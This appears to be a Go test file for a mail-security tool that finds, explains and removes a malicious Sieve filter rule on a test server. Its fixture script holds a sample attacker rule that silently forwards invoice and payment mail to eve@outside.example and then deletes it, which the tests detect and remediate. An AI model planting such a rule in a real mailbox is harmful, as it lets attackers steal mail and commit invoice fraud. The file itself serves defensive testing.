package imap

import (
	"errors"
	"strings"
	"testing"
	"time"

	"tocsin/internal/remediate"
	"tocsin/internal/remediate/sieve"

	"github.com/emersion/go-sasl"
)

const script = `require ["fileinto", "copy", "include"];
# rule:[Newsletters]
if header :contains "list-id" "news" { fileinto "News"; }

# rule:[.]
if header :contains "subject" ["invoice", "payment"] {
	redirect "eve@outside.example";
	discard;
}
include :personal "more";
keep;
`

func TestFirstAid(t *testing.T) {
	r := start(t, 1, nil)
	c, err := sieve.Dial(t.Context(), r.Sieve, nil, false, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	mechanism, message, _ := sasl.NewPlainClient("", owner, "bo's own").Start()
	if err := errors.Join(c.Authenticate(mechanism, message), c.Put("more", "redirect \"eve@outside.example\";\n"), c.Put("main", script), c.Put("old", "discard;\n")); err != nil {
		t.Fatal(err)
	}
	for name, change := range map[string]func(*Options){
		"plain":        func(o *Options) { o.SieveTLS = TLSNone },
		"STARTTLS":     func(o *Options) { o.CA = r.CA },
		"with authzid": func(o *Options) { o.SieveTLS, o.SignIn = TLSNone, SignAuthzid },
	} {
		o := options(r)
		o.Sieve, o.OwnDomains = r.Sieve, []string{"own.example"}
		change(&o)
		m := open(t, provider(t, o), owner).(remediate.FirstAid)
		if got, err := m.Rules(t.Context()); err != nil || name == "plain" && len(got) != 0 {
			t.Errorf("%s: no script is active: %+v, %v", name, got, err)
		}
	}
	r.Doveadm("sieve", "activate", "-u", owner, "main")

	o := options(r)
	o.Sieve, o.SieveTLS, o.OwnDomains = r.Sieve, TLSNone, []string{"own.example"}
	m := open(t, provider(t, o), owner).(remediate.FirstAid)
	rules, err := m.Rules(t.Context())
	if err != nil || len(rules) != 6 {
		t.Fatalf("%d rules: %+v, %v", len(rules), rules, err)
	}
	bad := rules[2]
	if bad.Script != "main" || bad.Why != "forwards to eve@outside.example; deletes mail about invoice, payment" || !strings.HasPrefix(bad.Text, "# rule:[.]\nif") {
		t.Errorf("the rule of the intruder: %+v", bad)
	}
	if last := rules[5]; last.Script != "more" || last.Why == "" {
		t.Errorf("the included rule: %+v", last)
	}
	before, err := m.RemoveRule(t.Context(), bad)
	if err != nil || strings.ReplaceAll(before, "\r\n", "\n") != script {
		t.Fatalf("before: %q, %v", before, err)
	}
	after, err := c.Get("main")
	if err != nil || strings.Contains(after, "invoice") || !strings.Contains(after, "Newsletters") || len(sieve.Cut(after)) != 4 {
		t.Errorf("after: %q, %v", after, err)
	}
	if _, err := m.RemoveRule(t.Context(), bad); !errors.Is(err, remediate.ErrGone) {
		t.Errorf("removed twice: %v", err)
	}
	if err := m.PutBack(t.Context(), "main", before); err != nil {
		t.Fatal(err)
	}
	if again, err := m.Rules(t.Context()); err != nil || len(again) != 6 || again[2] != bad {
		t.Errorf("put back: %+v, %v", again, err)
	}
	if err := m.SignOut(t.Context()); !errors.Is(err, remediate.ErrCannot) || !strings.Contains(err.Error(), "doveadm kick") {
		t.Errorf("signing out: %v", err)
	}
	// What the server does not understand it does not take, and the script stays.
	if err := m.PutBack(t.Context(), "main", "nonsense;"); err == nil || errors.Is(err, remediate.ErrOverloaded) {
		t.Errorf("nonsense: %v", err)
	}
	o.Password = "wrong"
	a := &aided{&mailbox{p: provider(t, o), address: owner, login: owner}}
	if _, err := a.Rules(t.Context()); !errors.Is(err, remediate.ErrRefused) {
		t.Errorf("wrong password: %v", err)
	}
	o.Sieve = "127.0.0.1:1"
	a.p = provider(t, o)
	if _, err := a.Rules(t.Context()); !errors.Is(err, remediate.ErrOverloaded) {
		t.Errorf("nobody listens: %v", err)
	}
}
